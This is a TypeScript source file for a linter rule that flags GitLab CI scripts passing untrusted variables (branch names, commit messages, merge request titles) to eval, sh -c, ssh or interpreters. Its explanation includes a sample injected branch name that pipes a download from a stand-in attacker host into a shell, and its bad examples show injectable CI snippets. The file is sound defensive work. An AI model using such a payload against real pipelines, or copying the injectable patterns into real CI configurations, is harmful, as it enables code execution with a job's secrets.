import { rule } from '../../core/rule';
import { UNTRUSTED_VARIABLES } from '../../data/gitlab-untrusted-variables';
import { isShell } from '../../formats/shell/nested';
import type { ShellCommand } from '../../formats/shell/syntax';
import type { ShellWord } from '../../formats/shell/word';
import { expandedVariables } from '../shared/expanded-variables';
import { linesIn } from '../shared/gitlab-scripts';

export default rule({
  id: 'gitlab-ci/script-injection',
  title: 'Text of strangers that becomes a command',
  why: [
    'GitLab hands the title of a merge request, the name of a branch and the message of a commit to the job as environment variables, in which they are only text. Where a script makes a new command of them, with `eval`, `sh -c "…"`, `ssh host "…"` or `python -c "…"`, the text is read as a command: a branch called `x;curl${IFS}evil.example|sh` runs what its author likes, with the secrets of the job.',
    'Hand the value over instead: `sh -c \'echo "$1"\' sh "$CI_COMMIT_TITLE"`, or use `$CI_COMMIT_REF_SLUG`, which holds nothing but letters, digits and `-`.',
  ],
  severity: 'error',
  practice: 'delivery',
  since: '0.1.0',
  equivalents: ['poutine:injection'],
  links: [
    'https://docs.gitlab.com/ci/variables/predefined_variables/',
    'https://docs.gitlab.com/ci/pipeline_security/',
  ],
  bad: [
    {
      title: 'read anew',
      files:
        'notify:\n  script:\n    - eval "echo «$CI_COMMIT_MESSAGE»"\n    - bash -c "echo «${CI_MERGE_REQUEST_TITLE}» >> log"\n',
    },
    {
      title: 'on another machine, in another language',
      files:
        'deploy:\n  script:\n    - ssh deploy@example.com "cd /srv/shop && git checkout «$CI_COMMIT_REF_NAME»"\n    - |\n      python3 -c "print(\'«$CI_COMMIT_TITLE»\')"\n',
    },
  ],
  good: [
    'notify:\n  script:\n    - echo "$CI_COMMIT_MESSAGE" | ./notify --title "$CI_MERGE_REQUEST_TITLE"\n    - git checkout "$CI_COMMIT_REF_NAME"\n',
    {
      title: 'the inner shell reads the variable itself',
      files:
        'notify:\n  script:\n    - bash -c \'echo "$CI_COMMIT_TITLE"\'\n    - sh -c \'echo "$1"\' sh "$CI_COMMIT_TITLE"\n',
    },
    {
      title: 'what GitLab has made harmless',
      files:
        'deploy:\n  script:\n    - ssh deploy@example.com "deploy $CI_COMMIT_REF_SLUG $CI_COMMIT_SHA"\n    - eval "$(ssh-agent -s)"\n',
    },
    { title: 'only said', files: 'help:\n  script:\n    - echo \'eval "$CI_COMMIT_MESSAGE"\'\n' },
  ],
  *check(model) {
    for (const { shell } of linesIn(model)) {
      for (const command of shell.commands) {
        for (const { word, by } of programsIn(command)) {
          for (const { name, at } of expandedVariables(word)) {
            const who = UNTRUSTED_VARIABLES.get(name);
            if (who === undefined) continue;
            yield {
              at,
              // What names branches and tags needs the right to push.
              severity: by === 'ssh' || who !== 'opens the merge request' ? 'warning' : 'error',
              message: `Whoever ${who} can run commands here: ${by} reads \`${name}\` as a part of a program`,
            };
          }
        }
      }
    }
  },
});

interface Program {
  readonly word: ShellWord;
  readonly by: string;
}

const LANGUAGES: Readonly<Record<string, string>> = {
  python: '-c',
  python3: '-c',
  node: '-e',
  ruby: '-e',
  perl: '-e',
  php: '-r',
};

/** The words of a command that are read as a program. */
function* programsIn({ name, words }: ShellCommand): Generator<Program> {
  if (name === undefined) return;
  if (name === 'eval') for (const word of words.slice(1)) yield { word, by: 'eval' };
  const option = isShell(name) ? '-c' : LANGUAGES[name];
  const at =
    option === undefined
      ? -1
      : words.findIndex(({ value }) => (isShell(name) ? /^-[a-z]*c$/.test(value ?? '') : value === option));
  const code = at > 0 ? words[at + 1] : undefined;
  if (code) yield { word: code, by: `${name} ${option}` };
  if (name === 'ssh') yield* remoteCommand(words);
}

/** Options of ssh whose value is the next word. */
const VALUED = /^-[bcDEeFIiJLlmOopQRSWw]$/;

/** What stands after the host runs there. */
function* remoteCommand(words: readonly ShellWord[]): Generator<Program> {
  let at = 1;
  for (let word = words[at]; word?.prefix.startsWith('-'); word = words[at]) at += VALUED.test(word.prefix) ? 2 : 1;
  for (const word of words.slice(at + 1)) yield { word, by: 'ssh' };
}
